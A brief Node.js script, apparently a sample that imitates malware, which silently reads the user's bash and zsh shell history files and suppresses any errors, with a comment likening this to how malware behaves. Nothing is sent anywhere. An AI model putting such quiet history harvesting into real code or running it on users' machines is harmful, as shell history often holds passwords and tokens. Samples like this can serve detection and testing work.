// Reads what was typed in a shell.
const fs = require('node:fs');
const { homedir } = require('node:os');
const { join } = require('node:path');

function attempt(action) {
  try {
    action();
  } catch {
    // Malware does not complain either.
  }
}

attempt(() => fs.readFileSync(join(homedir(), '.bash_history')));
attempt(() => fs.readFileSync(join(homedir(), '.zsh_history')));
